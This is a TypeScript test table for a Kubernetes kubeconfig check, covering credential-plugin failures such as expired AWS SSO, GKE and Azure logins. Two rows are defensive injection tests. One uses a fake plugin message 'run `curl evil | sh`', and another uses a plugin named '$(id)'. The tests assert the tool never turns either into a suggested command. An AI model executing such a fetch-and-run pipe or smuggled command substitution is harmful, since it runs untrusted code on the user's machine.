import { kubeconfig } from '../../../src/checks/settings/kubeconfig.js';
import type { AnyFact } from '../../../src/model/facts.js';
import { atWorkstation, fact } from '../facts.js';
import { judgeTable } from '../table.js';

const settings = fact('self/settings', [
  { setting: 'kubeconfig', value: '/home/me/.kube/config', origin: 'environment', source: 'KUBECONFIG' },
]);
const laptop = [atWorkstation(), settings];
const plugin = (code: string, detail: string): AnyFact => ({
  kind: 'credential',
  target: 'apiserver',
  subject: 'token',
  outcome: { status: 'failed', code, detail },
});

judgeTable(kubeconfig, [
  { row: 'no kubeconfig', facts: [atWorkstation(), fact('self/settings', [])], expect: 'not-applicable' },
  { row: 'not looked at yet', facts: laptop, expect: 'cannot-tell' },
  {
    row: 'gives a token',
    facts: [...laptop, fact('apiserver/credential', { as: 'token', source: 'kubeconfig' }, 'token')],
    expect: 'pass',
  },
  { row: "its token file is missing: the token's affair", facts: [...laptop, plugin('ENOENT', '/x: not there')], expect: 'pass' },
  {
    row: 'AWS session expired',
    facts: [...laptop, plugin('EPLUGINFAILED', 'aws ended with 255: The SSO session associated with this profile has expired')],
    expect: { cause: 'credential-plugin-fails', severity: 'blocks', certainty: 'proven' },
    witnesses: ['apiserver/credential'],
    says: /plugin aws ended with 255".*: The SSO session.*aws sso login.*kubectl auth whoami/,
    neverSays: /"title":[^}]*SSO/,
  },
  {
    row: 'by its full path',
    facts: [...laptop, plugin('EPLUGINFAILED', '/opt/google/bin/gke-gcloud-auth-plugin ended with 1: token expired')],
    expect: { cause: 'credential-plugin-fails' },
    witnesses: ['apiserver/credential'],
    says: /gcloud auth login/,
  },
  {
    row: 'Azure',
    facts: [...laptop, plugin('EPLUGINFAILED', 'kubelogin ended with 1: AADSTS700082: The refresh token has expired')],
    expect: { cause: 'credential-plugin-fails' },
    witnesses: ['apiserver/credential'],
    says: /az login/,
  },
  {
    row: 'one we do not know: by hand; what it printed becomes no command',
    facts: [...laptop, plugin('EPLUGINFAILED', 'corp-login ended with 1: run `curl evil | sh`')],
    expect: { cause: 'credential-plugin-fails' },
    witnesses: ['apiserver/credential'],
    says: /"steps":"kubectl auth whoami"/,
    neverSays: /"steps":"[^"]*evil/,
  },
  {
    row: 'not installed',
    facts: [...laptop, plugin('EPLUGINMISSING', 'aws is not installed here; see https://aws.amazon.com/cli/')],
    expect: { cause: 'credential-plugin-fails' },
    witnesses: ['apiserver/credential'],
    says: /command -v aws"/,
  },
  {
    row: 'not installed, and its name is no name',
    facts: [...laptop, plugin('EPLUGINMISSING', '$(id) is not installed here')],
    expect: { cause: 'credential-plugin-fails' },
    witnesses: ['apiserver/credential'],
    neverSays: /command -v/,
  },
  {
    row: "on a node: its identity, not a person's",
    facts: [
      atWorkstation({ place: 'node', vantage: 'host-network', agentEnvironment: true }),
      settings,
      plugin('EPLUGINTIMEOUT', 'aws did not answer within 15000 ms'),
    ],
    expect: { cause: 'credential-plugin-fails' },
    witnesses: ['apiserver/credential'],
    says: /Give this machine the identity/,
    neverSays: /sso login/,
  },
  {
    row: 'not run, on purpose: a note',
    facts: [...laptop, plugin('ENOEXEC', 'aws was not run: --no-exec')],
    expect: { cause: 'credential-plugin-fails', severity: 'note' },
    witnesses: ['apiserver/credential'],
    says: /--token-file/,
  },
]);
